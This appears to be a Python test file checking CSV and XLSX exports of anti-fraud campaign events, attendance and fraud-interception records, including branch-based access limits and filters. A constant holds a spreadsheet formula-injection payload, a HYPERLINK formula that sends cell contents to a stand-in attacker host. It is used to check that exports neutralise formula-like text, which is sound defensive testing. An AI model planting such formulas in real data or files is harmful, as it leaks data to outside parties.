"""Spreadsheet exports of events, attendance and interceptions, through the API."""

import csv
import io
import re
import zipfile
from typing import Any
from urllib.parse import unquote
from xml.etree import ElementTree  # the files parsed are our own output

import httpx
import pytest

from tests.events.conftest import Api

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
KINDS = ("events", "attendance", "interceptions")
_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def read_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == CSV_TYPE
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8")[1:]
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _column_index(ref: str) -> int:
    letters = re.match(r"[A-Z]+", ref)
    assert letters is not None
    index = 0
    for letter in letters[0]:
        index = index * 26 + ord(letter) - ord("A") + 1
    return index - 1


def read_xlsx(response: httpx.Response) -> tuple[list[dict[str, str]], str]:
    """Rows as header → text (numbers as their text), and the raw sheet XML."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX_TYPE
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    strings: list[str] = []
    if "xl/sharedStrings.xml" in archive.namelist():
        shared = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))  # noqa: S314
        for item in shared.findall("m:si", _NS):
            strings.append("".join(t.text or "" for t in item.iter(f"{{{_NS['m']}}}t")))
    sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    sheet = ElementTree.fromstring(sheet_xml)  # noqa: S314
    grid: list[list[str]] = []
    for row in sheet.iterfind("m:sheetData/m:row", _NS):
        cells: list[str] = []
        for c in row.findall("m:c", _NS):
            index = _column_index(c.attrib["r"])
            cells.extend([""] * (index + 1 - len(cells)))
            value = c.find("m:v", _NS)
            text = "" if value is None or value.text is None else value.text
            cells[index] = strings[int(text)] if c.attrib.get("t") == "s" else text
        grid.append(cells)
    header, body = grid[0], grid[1:]
    rows = [
        {title: (cells[i] if i < len(cells) else "") for i, title in enumerate(header)}
        for cells in body
    ]
    return rows, sheet_xml


async def _intercept(client: httpx.AsyncClient, world: Any, user: str, **body: Any) -> dict:
    payload = {
        "client_ref": f"exp-{body.pop('ref')}",
        "occurred_at": "2025-06-01T14:30:00+08:00",
        "channel": "counter",
        "fraud_type": "fake_investment",
        "amount_saved": "86000.00",
        "victim_age_band": "60_plus",
        "description": "老人欲向“投资导师”转账，柜员劝阻",
        **body,
    }
    response = await client.post("/api/interceptions", json=payload, headers=world.auth(user))
    assert response.status_code == 201, response.text
    return response.json()


@pytest.fixture
async def seeded(client: httpx.AsyncClient, world: Any) -> dict[str, Any]:
    api = Api(client, world)
    campaign = await api.create_campaign()
    lecture = await api.create_event(
        title="六库反诈讲座",
        campaign_id=campaign["id"],
        branch_id=world.branches["NJ-LK"],
        starts_at="2025-05-20T09:00:00+08:00",
        ends_at="2025-05-20T10:30:00+08:00",
        host=HOSTILE,
    )
    salon = await api.create_event(
        title="向阳网点微沙龙",
        kind="salon",
        visibility="internal",
        branch_id=world.branches["NJ-LK-A"],
        starts_at="2025-05-22T15:00:00+08:00",
        ends_at="2025-05-22T16:00:00+08:00",
        venue={"name": "向阳网点", "address": "向阳路", "venue_type": "branch_hall"},
    )
    lushui = await api.create_event(
        title="泸水公开讲座",
        branch_id=world.branches["NJ-LS"],
        starts_at="2025-05-21T09:00:00+08:00",
        ends_at="2025-05-21T10:00:00+08:00",
        venue={"name": "泸水大厅", "address": "", "venue_type": "branch_hall"},
    )
    for event, people in ((lecture, 40), (salon, 12), (lushui, 25)):
        response = await client.put(
            f"/api/events/{event['id']}/attendance",
            json={
                "occurrence_start": event["starts_at"],
                "headcount": people,
                "by_audience": {"elderly": people // 2},
                "materials_distributed": 100,
                "app_installs": 7,
                "notes": "-发放折页" if event is salon else "现场互动",
            },
            headers=world.auth("admin"),
        )
        assert response.status_code in (200, 201), response.text
    big = await _intercept(client, world, "staff_lk", ref="big", event_id=lecture["id"])
    small = await _intercept(
        client,
        world,
        "staff_lka",
        ref="small",
        occurred_at="2025-06-03T09:05:00+08:00",
        fraud_type="order_brushing",
        channel="phone_callback",
        amount_saved="0.50",
        victim_age_band="18_34",
        description=HOSTILE,
        attribution_note="+86 来电",
        police_case_no="@case",
    )
    other = await _intercept(
        client, world, "staff_ls", ref="lushui", amount_saved="1200.00", description="泸水 LS-MARK"
    )
    return {
        "campaign": campaign,
        "lecture": lecture,
        "salon": salon,
        "lushui": lushui,
        "big": big,
        "small": small,
        "other": other,
    }


async def test_everyone_signed_out_gets_401(client, seeded):
    for name in KINDS:
        for extension in ("csv", "xlsx"):
            response = await client.get(f"/api/exports/{name}.{extension}")
            assert response.status_code == 401, name
            assert "MARK" not in response.text


async def test_interceptions_csv_holds_the_subtree_with_labels_and_exact_money(
    client, world, seeded
):
    response = await client.get("/api/exports/interceptions.csv", headers=world.auth("staff_lk"))
    rows = read_csv(response)
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="interceptions-')
    assert unquote(disposition.split("filename*=UTF-8''")[1]).startswith("拦截记录-")
    assert response.headers["cache-control"] == "private, no-store"

    assert [r["客户端编号"] for r in rows] == ["exp-small", "exp-big"]  # newest first
    small, big = rows
    assert big["记录ID"] == str(seeded["big"]["id"])
    assert big["发生时间"] == "2025-06-01T14:30:00+08:00"
    assert big["网点代码"] == "NJ-LK"
    assert (big["渠道"], big["诈骗类型"], big["受害人年龄段"]) == (
        "柜面",
        "虚假投资理财",
        "60岁及以上",
    )
    assert big["挽回金额(元)"] == "86000.00"
    assert big["关联活动ID"] == str(seeded["lecture"]["id"])
    assert big["审核状态"] == "待审核"
    assert big["币种"] == "CNY"
    assert big["登记人"] == "staff_lk"
    assert (small["网点代码"], small["挽回金额(元)"]) == ("NJ-LK-A", "0.50")
    assert (small["渠道"], small["诈骗类型"]) == ("电话回访", "刷单返利")
    assert small["关联活动ID"] == ""
    assert "LS-MARK" not in response.text


async def test_sibling_branch_staff_exports_none_of_another_branchs_rows(client, world, seeded):
    theirs = read_csv(
        await client.get("/api/exports/interceptions.csv", headers=world.auth("staff_ls"))
    )
    assert [r["客户端编号"] for r in theirs] == ["exp-lushui"]
    events = read_csv(await client.get("/api/exports/events.csv", headers=world.auth("staff_ls")))
    # The events list shows other branches' public events; the export holds only the subtree.
    assert [r["标题"] for r in events] == ["泸水公开讲座"]
    attendance = read_csv(
        await client.get("/api/exports/attendance.csv", headers=world.auth("staff_ls"))
    )
    assert [r["活动标题"] for r in attendance] == ["泸水公开讲座"]
    for extension in ("csv", "xlsx"):
        for name in KINDS:
            response = await client.get(
                f"/api/exports/{name}.{extension}", headers=world.auth("staff_ls")
            )
            assert response.status_code == 200
            assert "六库".encode() not in response.content
    # The leaf outlet sees itself only; the admin sees everything.
    leaf = read_csv(
        await client.get("/api/exports/interceptions.csv", headers=world.auth("staff_lka"))
    )
    assert [r["客户端编号"] for r in leaf] == ["exp-small"]
    everything = read_csv(
        await client.get("/api/exports/interceptions.csv", headers=world.auth("admin"))
    )
    assert len(everything) == 3


async def test_interception_filters_narrow_the_export(client, world, seeded):
    async def refs(**params: Any) -> list[str]:
        response = await client.get(
            "/api/exports/interceptions.csv", params=params, headers=world.auth("admin")
        )
        return sorted(r["客户端编号"] for r in read_csv(response))

    assert await refs(branch="NJ-LK") == ["exp-big", "exp-small"]
    assert await refs(branch="NJ-LK-A") == ["exp-small"]
    assert await refs(fraud_type="order_brushing") == ["exp-small"]
    assert await refs(event=seeded["lecture"]["id"]) == ["exp-big"]
    assert await refs(**{"from": "2025-06-02"}) == ["exp-small"]
    assert await refs(to="2025-06-01") == ["exp-big", "exp-lushui"]
    assert await refs(status="verified") == []
    verify = await client.post(
        f"/api/interceptions/{seeded['big']['id']}/verify", json={}, headers=world.auth("coord")
    )
    assert verify.status_code == 200
    assert await refs(status="verified") == ["exp-big"]


async def test_interceptions_xlsx_has_the_same_cells(client, world, seeded):
    csv_rows = read_csv(
        await client.get("/api/exports/interceptions.csv", headers=world.auth("staff_lk"))
    )
    response = await client.get("/api/exports/interceptions.xlsx", headers=world.auth("staff_lk"))
    rows, sheet = read_xlsx(response)
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="interceptions-'
    )
    assert ".xlsx" in response.headers["content-disposition"]
    assert [r["客户端编号"] for r in rows] == ["exp-small", "exp-big"]
    assert rows[1]["挽回金额(元)"] == "86000.00"
    assert rows[0]["挽回金额(元)"] == "0.50"
    assert rows[1]["发生时间"] == "2025-06-01T14:30:00+08:00"
    for xlsx_row, csv_row in zip(rows, csv_rows, strict=True):
        for title, value in csv_row.items():
            # The CSV prefixes formula-like text; XLSX keeps it as a plain string cell.
            assert xlsx_row[title] == value.removeprefix("'"), title
    # Typed text is a string cell, never a formula.
    assert "<f>" not in sheet
    assert rows[0]["情况说明"] == HOSTILE


async def test_formula_like_text_is_neutralised_in_csv(client, world, seeded):
    rows = read_csv(
        await client.get("/api/exports/interceptions.csv", headers=world.auth("staff_lka"))
    )
    (small,) = rows
    assert small["情况说明"] == "'" + HOSTILE
    assert small["归因说明"] == "'+86 来电"
    assert small["警情编号"] == "'@case"
    # Amounts and times are the system's own text and stay importable.
    assert small["挽回金额(元)"] == "0.50"
    assert small["发生时间"] == "2025-06-03T09:05:00+08:00"
    events = read_csv(await client.get("/api/exports/events.csv", headers=world.auth("coord")))
    lecture = next(r for r in events if r["标题"] == "六库反诈讲座")
    assert lecture["主讲人"] == "'" + HOSTILE
    attendance = read_csv(
        await client.get("/api/exports/attendance.csv", headers=world.auth("coord"))
    )
    salon = next(r for r in attendance if r["活动标题"] == "向阳网点微沙龙")
    assert salon["备注"] == "'-发放折页"


async def test_exported_interceptions_import_back(client, world, seeded):
    staff = world.auth("staff_lk")
    exported = await client.get("/api/exports/interceptions.csv", headers=staff)
    assert exported.status_code == 200

    # The same file again: every row is already stored, nothing is duplicated.
    again = await client.post(
        "/api/imports/interceptions",
        content=exported.content,
        headers={**staff, "Content-Type": "text/csv"},
    )
    assert again.status_code == 201, again.text
    assert again.json()["imported"] == 0
    assert sorted(s["client_ref"] for s in again.json()["skipped"]) == ["exp-big", "exp-small"]

    # With new client_refs, as another office would re-key the rows: all rows come in.
    text = exported.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    ref = header.index("客户端编号")
    for row in body:
        row[ref] = "copy-" + row[ref]
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows([header, *body])
    rekeyed = "\ufeff" + buffer.getvalue()
    response = await client.post(
        "/api/imports/interceptions",
        files={"file": ("拦截记录.csv", rekeyed.encode("utf-8"), "text/csv")},
        headers=staff,
    )
    assert response.status_code == 201, response.text
    assert response.json()["imported"] == 2
    assert "记录ID" in response.json()["ignored_columns"]

    after = read_csv(await client.get("/api/exports/interceptions.csv", headers=staff))
    by_ref = {r["客户端编号"]: r for r in after}
    for original in ("exp-big", "exp-small"):
        copy = by_ref["copy-" + original]
        source = by_ref[original]
        for title in ("发生时间", "网点代码", "渠道", "诈骗类型", "挽回金额(元)", "受害人年龄段"):
            assert copy[title] == source[title], title
        assert copy["关联活动ID"] == source["关联活动ID"]
        assert copy["审核状态"] == "待审核"
    listed = await client.get("/api/interceptions", params={"limit": 100}, headers=staff)
    amounts = sorted(i["amount_saved"] for i in listed.json()["items"])
    assert amounts == ["0.50", "0.50", "86000.00", "86000.00"]


async def test_events_export_with_the_list_filters(client, world, seeded):
    coord = world.auth("coord")

    async def titles(extension: str = "csv", **params: Any) -> list[str]:
        response = await client.get(
            f"/api/exports/events.{extension}", params=params, headers=coord
        )
        rows = read_csv(response) if extension == "csv" else read_xlsx(response)[0]
        return [r["标题"] for r in rows]

    everything = ["六库反诈讲座", "泸水公开讲座", "向阳网点微沙龙"]
    assert await titles() == everything
    assert await titles("xlsx") == everything
    assert await titles(kind="salon") == ["向阳网点微沙龙"]
    assert await titles(branch="NJ-LK") == ["六库反诈讲座", "向阳网点微沙龙"]
    assert await titles(campaign=seeded["campaign"]["id"]) == ["六库反诈讲座"]
    assert await titles(q="沙龙") == ["向阳网点微沙龙"]
    assert await titles(status="draft") == []
    assert await titles(**{"from": "2025-05-21T12:00:00+08:00"}) == ["向阳网点微沙龙"]
    assert await titles("xlsx", to="2025-05-21") == ["六库反诈讲座"]

    rows = read_csv(await client.get("/api/exports/events.csv", headers=coord))
    lecture = rows[0]
    assert lecture["活动ID"] == str(seeded["lecture"]["id"])
    assert lecture["开始时间"] == "2025-05-20T09:00:00+08:00"
    assert lecture["结束时间"] == "2025-05-20T10:30:00+08:00"
    assert lecture["网点代码"] == "NJ-LK"
    assert lecture["宣传活动"] == "2025年金融知识进万家"
    assert lecture["时区"] == "Asia/Shanghai"
    assert rows[2]["可见范围"] == "internal"


async def test_attendance_export_with_filters(client, world, seeded):
    coord = world.auth("coord")

    async def rows_of(extension: str = "csv", **params: Any) -> list[dict[str, str]]:
        response = await client.get(
            f"/api/exports/attendance.{extension}", params=params, headers=coord
        )
        return read_csv(response) if extension == "csv" else read_xlsx(response)[0]

    rows = await rows_of()
    assert [r["活动标题"] for r in rows] == ["六库反诈讲座", "泸水公开讲座", "向阳网点微沙龙"]
    lecture = rows[0]
    assert lecture["场次开始时间"] == "2025-05-20T09:00:00+08:00"
    assert (lecture["受众人次"], lecture["其中老年人"], lecture["其中学生"]) == ("40", "20", "")
    assert (lecture["发放资料(份)"], lecture["协助安装反诈APP"]) == ("100", "7")
    assert lecture["登记人"] == "admin"
    assert lecture["网点代码"] == "NJ-LK"
    xlsx = await rows_of("xlsx")
    assert [r["受众人次"] for r in xlsx] == ["40", "25", "12"]
    assert [r["活动标题"] for r in await rows_of(branch="NJ-LK-A")] == ["向阳网点微沙龙"]
    assert [r["活动标题"] for r in await rows_of(event=seeded["lushui"]["id"])] == ["泸水公开讲座"]
    assert [r["活动标题"] for r in await rows_of(campaign=seeded["campaign"]["id"])] == [
        "六库反诈讲座"
    ]
    assert len(await rows_of(**{"from": "2025-05-21", "to": "2025-05-22"})) == 1
    staff = read_csv(
        await client.get("/api/exports/attendance.csv", headers=world.auth("staff_lka"))
    )
    assert [r["活动标题"] for r in staff] == ["向阳网点微沙龙"]


async def test_bad_filters_answer_422_with_a_detail(client, world, seeded):
    coord = world.auth("coord")
    cases = [
        ("events.csv", {"branch": "NOPE"}),
        ("events.xlsx", {"from": "yesterday"}),
        ("attendance.csv", {"branch": "NOPE"}),
        ("attendance.xlsx", {"from": "2025-06-02", "to": "2025-06-01"}),
        ("interceptions.csv", {"to": "2025-13-45"}),
        ("interceptions.xlsx", {"branch": "NOPE"}),
    ]
    for path, params in cases:
        response = await client.get(f"/api/exports/{path}", params=params, headers=coord)
        assert response.status_code == 422, (path, response.text)
        assert response.json()["detail"]
    response = await client.get(
        "/api/exports/interceptions.csv", params={"fraud_type": "bogus"}, headers=coord
    )
    assert response.status_code == 400


async def test_too_many_rows_asks_to_narrow_the_filters(client, world, seeded, monkeypatch):
    from exports import export_rows

    monkeypatch.setattr(export_rows, "MAX_ROWS", 2)
    coord = world.auth("coord")
    for name in KINDS:
        for extension in ("csv", "xlsx"):
            response = await client.get(f"/api/exports/{name}.{extension}", headers=coord)
            assert response.status_code == 422, name
            assert "narrow the filters" in response.json()["detail"]
    narrowed = await client.get(
        "/api/exports/interceptions.csv", params={"branch": "NJ-LS"}, headers=coord
    )
    assert len(read_csv(narrowed)) == 1


async def test_event_times_are_shown_in_the_events_own_zone(client, world):
    api = Api(client, world)
    await api.create_event(
        title="柏林线上讲座",
        kind="online",
        branch_id=world.branches["NJ-LK"],
        starts_at="2025-03-14T10:00:00+08:00",
        ends_at="2025-03-14T11:00:00+08:00",
        timezone="Europe/Berlin",
        venue={"name": "线上", "address": "", "venue_type": "online"},
    )
    (row,) = read_csv(await client.get("/api/exports/events.csv", headers=world.auth("coord_lk")))
    assert (row["开始时间"], row["结束时间"]) == (
        "2025-03-14T03:00:00+01:00",
        "2025-03-14T04:00:00+01:00",
    )
    assert row["时区"] == "Europe/Berlin"
